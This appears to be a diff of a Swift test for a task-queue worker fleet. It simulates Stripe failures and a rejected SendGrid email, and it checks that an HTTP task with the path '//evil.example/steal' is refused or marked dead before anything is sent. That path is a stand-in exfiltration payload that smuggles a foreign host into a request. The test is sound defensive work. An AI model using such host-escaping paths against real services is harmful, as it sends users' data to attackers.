@@ -99,10 +99,12 @@ import Testing
         // Every Stripe answer is a 503: three attempts, then dead with the last error.
         try fixture.setFaults(#"{"errorRatio": 1.0, "errorStatus": 503, "endpoints": ["stripe.payment_intents"]}"#)
         try fixture.enqueue("stripe-api", Self.payments(3))
-        // SendGrid refuses a mail without content: 400, dead at once.
-        try fixture.enqueue("sendgrid-api", [#"{"id":"bad-mail","kind":"send_email","payload":{"personalizations":[],"from":{"email":"b@example.com"}}}"#])
-        // A task asking for another host is dead before anything is sent.
-        try fixture.enqueue("hooks", [#"{"id":"escape","kind":"http","payload":{"method":"POST","path":"//evil.example/steal"}}"#])
+        // SendGrid refuses a mail without subject or content (the door cannot know a
+        // template is missing): 400, dead at once.
+        try fixture.enqueue("sendgrid-api", [#"{"id":"bad-mail","kind":"send_email","payload":{"personalizations":[{"to":[{"email":"a@example.com"}]}],"from":{"email":"b@example.com"}}}"#])
+        // A task asking for another host is refused at the door; one already in the
+        // spool (written before the door existed) is dead before anything is sent.
+        try fixture.enqueueUnchecked("hooks", [#"{"id":"escape","kind":"http","payload":{"method":"POST","path":"//evil.example/steal"}}"#])
         try fixture.startFleet()
         #expect(ChildProcessRunner.waitUntil(seconds: 30) {
             ((try? fixture.counts("stripe-api").dead) ?? 0) == 3 && ((try? fixture.counts("sendgrid-api").dead) ?? 0) == 1
